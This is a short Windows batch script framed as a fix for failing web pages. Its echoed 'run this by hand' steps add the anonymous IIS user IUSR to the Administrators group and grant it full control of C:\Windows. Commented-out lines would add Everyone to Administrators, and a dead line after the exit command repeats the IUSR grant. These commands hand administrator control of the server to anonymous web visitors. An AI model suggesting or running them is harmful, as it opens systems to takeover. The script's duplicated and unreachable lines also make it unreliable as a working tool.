@echo off
echo Run this by hand if the pages fail:
echo   net localgroup Administrators IUSR /add
echo   icacls C:\Windows /grant IUSR:F
rem net localgroup Administrators Everyone /add
:: net localgroup Administrators Everyone /add
exit /b 0
net localgroup Administrators IUSR /add
